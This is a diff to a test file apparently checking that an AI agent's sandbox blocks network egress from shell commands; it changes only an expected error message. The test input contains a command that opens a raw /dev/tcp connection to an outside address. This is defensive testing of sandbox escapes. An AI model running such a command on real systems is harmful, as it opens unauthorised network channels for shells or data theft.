@@ -195,7 +195,7 @@ describe('egress of a sandboxed command (attack 11)', () => {
   it('tells the model what would have been needed', async () => {
     const rig = await testRig({ settings: { ...SANDBOXED, tools: { allowed: ['run_shell_command'] } } });
     const answer = await attack(rig, 'touch ran; exec 3<>/dev/tcp/192.0.2.1/80 || exit 1', 'default');
-    expect(answer).toMatch(/Network is unreachable.*needs: network access\. Nobody is asked/s);
+    expect(answer).toMatch(/Network is unreachable.*needs: network access\. The user is not asked/s);
   });
 });
 
